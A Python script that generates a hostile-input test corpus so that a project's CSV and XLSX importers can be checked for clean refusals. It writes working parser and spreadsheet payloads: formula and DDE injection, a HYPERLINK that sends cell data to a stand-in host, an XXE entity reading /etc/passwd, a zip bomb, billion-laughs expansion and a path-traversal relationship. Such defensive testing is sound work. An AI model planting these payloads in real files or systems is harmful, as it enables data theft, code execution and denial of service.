#!/usr/bin/env python3
"""Writes the hostile-input corpus into tests/hostile/ (issue 7).

Every file is small and deterministic; the test HostileCorpusTests feeds each one to every importer and expects a
clean refusal in Bahasa Indonesia and no partial write. Files too big to keep in git (the 10 MB single cells) are
made by the test itself. Run again after changing this script: python3 tools/make-hostile-corpus.py
"""
import io
import os
import zipfile

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "hostile")
HEADER = "NIK;Nama;Tgl Lahir;JK;Desa;Kecamatan;No HP;Penghasilan\n"
GOOD = "1609014708850001;Siti Nurhayati;07/08/1985;P;;;;\n"

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                 '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                 '</Types>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
             '</Relationships>')
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="Pekerja" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="{target}"/>'
                 '</Relationships>')
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def cell(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(n, values):
    cols = "ABCDEFGH"
    return f'<row r="{n}">' + "".join(cell(f"{cols[i]}{n}", v) for i, v in enumerate(values)) + "</row>"


HEADER_ROW = row(1, ["NIK", "Nama", "Tgl Lahir", "JK", "Desa", "Kecamatan", "No HP", "Penghasilan"])


def xlsx(sheet_xml, extra=None, target="worksheets/sheet1.xml", shared=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in [("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", ROOT_RELS), ("xl/workbook.xml", WORKBOOK),
                           ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.format(target=target))]:
            z.writestr(zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0)), text, zipfile.ZIP_DEFLATED)
        if sheet_xml is not None:
            z.writestr(zipfile.ZipInfo("xl/worksheets/sheet1.xml", (2025, 1, 1, 0, 0, 0)), sheet_xml, zipfile.ZIP_DEFLATED)
        if shared is not None:
            z.writestr(zipfile.ZipInfo("xl/sharedStrings.xml", (2025, 1, 1, 0, 0, 0)), shared, zipfile.ZIP_DEFLATED)
        for name, data in (extra or {}).items():
            z.writestr(zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def sheet(rows_xml, prolog=""):
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {NS}><sheetData>{HEADER_ROW}{rows_xml}</sheetData></worksheet>'


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


def main():
    os.makedirs(OUT, exist_ok=True)
    # Malformed CSV: a quote opened on row 3 and never closed swallows every following line into one cell.
    write("csv-unterminated-quote.csv", HEADER + GOOD + '1609011208850002;"Ahmad Fauzi;12/08/1985;L;;;;\n'
          + "".join(f"16090112088500{i:02d};Pekerja {chr(65 + i)};;;;;;\n" for i in range(3, 40)))
    # Not text at all: a PNG signature and binary noise named .csv.
    write("csv-binary.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes((i * 37 + 11) % 256 for i in range(4000)))
    # Wrong encodings: Windows-1252 (é = 0xE9 is not UTF-8) and UTF-16 without a byte-order mark.
    write("csv-windows-1252.csv", (HEADER + "1609014708850001;Siti Nurhayati Andr\u00e9;07/08/1985;P;;;;\n").encode("cp1252"))
    write("csv-utf16-no-bom.csv", (HEADER + GOOD).encode("utf-16-le"))
    # Formulas where a name belongs (CSV injection); the rows are refused, nothing is evaluated or stored.
    write("csv-formulas.csv", HEADER
          + '1609014708850001;"=HYPERLINK(""http://contoh.invalid/?d=""&A1;""klik"")";07/08/1985;P;;;;\n'
          + "1609011208850002;+1+1;12/08/1985;L;;;;\n"
          + "1609015212900003;@SUM(1+9)*cmd|' /C calc'!A0;12/12/1990;P;;;;\n"
          + "1609011506920004;-2+3+cmd|' /C calc'!A0;15/06/1992;L;;;;\n")
    # Too many columns (the limit is 200).
    write("csv-too-many-columns.csv", ";".join(f"K{i}" for i in range(1000)) + "\n")
    # Zip bomb: one 60 MB part of zeros, deflated to ~60 KB (ratio ~1000:1).
    bomb = sheet("") .replace("</sheetData>", "</sheetData>" + " " * (60 * 1024 * 1024))
    write("xlsx-zip-bomb.xlsx", xlsx(bomb))
    # XML external entity in the shared strings part (would read a local file if entities were resolved).
    write("xlsx-external-entity.xlsx", xlsx(
        sheet('<row r="2"><c r="A2" t="s"><v>0</v></c></row>'),
        shared='<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
               f'<sst {NS} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'))
    # "Billion laughs": nested internal entities in the worksheet.
    laughs = '<!DOCTYPE worksheet [<!ENTITY a "hahahahahahahahahaha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>"
    write("xlsx-billion-laughs.xlsx", xlsx(sheet('<row r="2"><c r="B2" t="inlineStr"><is><t>&j;</t></is></c></row>', laughs)))
    # Not a zip at all, named .xlsx.
    write("xlsx-not-a-zip.xlsx", HEADER + GOOD)
    # A real workbook cut in half (a broken download or e-mail attachment).
    full = xlsx(sheet(row(2, ["1609014708850001", "Siti Nurhayati", "07/08/1985", "P", "", "", "", ""])))
    write("xlsx-truncated.xlsx", full[: len(full) // 2])
    # The workbook points at a sheet part that is not in the package; and one that points outside the package.
    write("xlsx-missing-sheet.xlsx", xlsx(None))
    write("xlsx-path-traversal.xlsx", xlsx(sheet(""), target="../../../../etc/passwd"))
    # Formulas: a formula cell counts by its cached result (what the user saw: row 2 is accepted as "Siti Nurhayati",
    # the formula itself is never read), formula text where a name belongs is refused (rows 3 and 4).
    write("xlsx-formulas.xlsx", xlsx(sheet(
        '<row r="2"><c r="A2" t="inlineStr"><is><t>1609014708850001</t></is></c>'
        '<c r="B2" t="str"><f>PROPER("siti nurhayati")</f><v>Siti Nurhayati</v></c>'
        '<c r="C2" t="inlineStr"><is><t>07/08/1985</t></is></c><c r="D2" t="inlineStr"><is><t>P</t></is></c></row>'
        + row(3, ["1609011208850002", '=HYPERLINK("http://contoh.invalid";"klik")', "12/08/1985", "L", "", "", "", ""])
        + row(4, ["1609015212900003", "@SUM(1+9)*cmd|' /C calc'!A0", "12/12/1990", "P", "", "", "", ""]))))


if __name__ == "__main__":
    main()
